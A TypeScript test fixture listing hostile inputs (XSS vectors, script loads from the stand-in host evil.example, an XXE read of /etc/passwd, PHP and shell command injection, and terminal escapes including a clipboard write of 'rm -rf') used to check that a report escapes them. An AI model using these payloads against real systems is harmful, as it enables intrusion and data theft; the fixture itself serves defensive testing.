/**
 * What a host, or who writes an inventory, may send so that a report runs it, loads it, hides something or breaks. `BREACH` is
 * the tripwire: a page in which any of these comes alive calls it.
 */
const LIVE = 'window.BREACH=1'
const FAR = 'https://evil.example/x'

const SCRIPTS: readonly string[] = [
  `<script>${LIVE}</script>`,
  `</script><script>${LIVE}</script>`,
  `</title><script>${LIVE}</script>`,
  `</style><script>${LIVE}</script>`,
  `</textarea></noscript></template></xmp></iframe><script>${LIVE}</script>`,
  `</pre></code></td></table></details></section></main><script>${LIVE}</script>`,
  `<ScRiPt>${LIVE}</sCrIpT>`,
  `<script/x>${LIVE}</script>`,
  `<script src="${FAR}.js"></script>`,
  `<script src=//evil.example/x.js></script>`,
  `<script type="module">import "${FAR}.mjs"</script>`,
  `<scr<script>ipt>${LIVE}</scr</script>ipt>`,
  `<<script>${LIVE}//<</script>`,
  `%3Cscript%3E${LIVE}%3C/script%3E`,
  `\\u003cscript\\u003e${LIVE}\\u003c/script\\u003e`,
  `\uff1cscript\uff1e${LIVE}\uff1c/script\uff1e`,
  `<\0script>${LIVE}</\0script>`,
  `+ADw-script+AD4-${LIVE}+ADw-/script+AD4-`,
]

const HANDLERS: readonly string[] = [
  `<img src=x onerror="${LIVE}">`,
  `"><img src=x onerror=${LIVE}>`,
  `'><img src=x onerror=${LIVE}>`,
  `\`><img src=x onerror=${LIVE}>`,
  `<img/src/onerror=${LIVE}>`,
  `" onmouseover="${LIVE}" x="`,
  `' onfocus='${LIVE}' autofocus tabindex=0 x='`,
  ` onload=${LIVE} `,
  `<svg onload=${LIVE}>`,
  `<svg><animate onbegin=${LIVE} attributeName=x dur=1s>`,
  `<svg><script>${LIVE}</script></svg>`,
  `<svg><foreignObject><body onload=${LIVE}></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${LIVE}'/></svg>#x"/></svg>`,
  `<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${LIVE}&gt;">`,
  `<details open ontoggle=${LIVE}>`,
  `<body onload=${LIVE}>`,
  `<video><source onerror=${LIVE}></video>`,
  `<audio src=x onerror=${LIVE}>`,
  `<input autofocus onfocus=${LIVE}>`,
  `<marquee onstart=${LIVE}>`,
  `<x onpointerrawupdate=${LIVE} style="position:fixed;inset:0">`,
]

const LOADS: readonly string[] = [
  `<iframe srcdoc="<script>parent.BREACH=1</script>"></iframe>`,
  `<iframe src="javascript:${LIVE}"></iframe>`,
  `<object data="${FAR}"></object><embed src="${FAR}">`,
  `<link rel=stylesheet href="${FAR}.css"><link rel=preload as=image href="${FAR}.png">`,
  `<style>@import "${FAR}.css"; body { background: url(${FAR}.png) }</style>`,
  `<p style="background:url(${FAR}.png)">`,
  `}</style><style>*{display:none}body::after{content:url(${FAR})}`,
  `<meta http-equiv="refresh" content="0;url=${FAR}">`,
  `<base href="${FAR}/"><a href="x">x</a>`,
  `<form action="${FAR}"><button autofocus>x</button></form>`,
  `<a href="javascript:${LIVE}">next</a><a href="data:text/html,<script>${LIVE}</script>">x</a>`,
  `[next](javascript:${LIVE}) ![x](${FAR}.png) <${FAR}> www.evil.example ${FAR}`,
  `[ref]: ${FAR} "x"`,
]

const BREAKS: readonly string[] = [
  `--><script>${LIVE}</script><!--`,
  `<!--[if gte IE 4]><script>${LIVE}</script><![endif]-->`,
  `]]><script>${LIVE}</script><![CDATA[`,
  `<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>`,
  `<?xml version="1.0"?><?php system("id") ?>`,
  `&lt;script&gt;${LIVE}&lt;/script&gt;&#60;&#x3c;&#0;&#xd800;&lt`,
  `&amp;lt;script&amp;gt;&nbsp;&quot;&apos;&bogus;`,
  `# heading\n\n- list\n1. one\n> quote\n\`\`\`html\n<b>x</b>\n\`\`\`\n| a | b |\n~~~`,
  '``` `` ` | \\| \\` *b* _i_ ~~s~~ @channel @octocat #1 :skull: $x$ <!-- x -->',
  '"},{"rule":"x"}],"x":[{"y":"',
  '{label="x"} 1\nctfleet_forged 1\n# TYPE a gauge\\',
  '{{7*7}} #{7*7} <%= 7*7 %> $(id) `id` %s %n',
]

const UNSEEN: readonly string[] = [
  '\x1b[2J\x1b[H\x1b]0;title\x07\x1b]8;;https://evil.example\x1b\\x\x1b]52;c;cm0gLXJm\x1b\\ \x9b1m',
  'invoice\u202egpj.exe \u2066a\u2069 \u200b\ufeff\u2060\u00ad \u3164\u115f \u{e0041}',
  Array.from({ length: 0x20 }, (_, code) => String.fromCharCode(code)).join(''),
  '\x7f\x85\u2028\u2029\ufffe\uffff\ud800 \udfff \u{10ffff}',
  'failed\rok\b\b\b  a\u0301\u0301\u0301\u0301\u0301\u0301',
]

export const HOSTILE: readonly string[] = [...SCRIPTS, ...HANDLERS, ...LOADS, ...BREAKS, ...UNSEEN]

/** A line without end, of the same making: ten million characters. */
export const ENDLESS = `<img src=x onerror=${LIVE}>`.repeat(400_000).slice(0, 10_000_000)
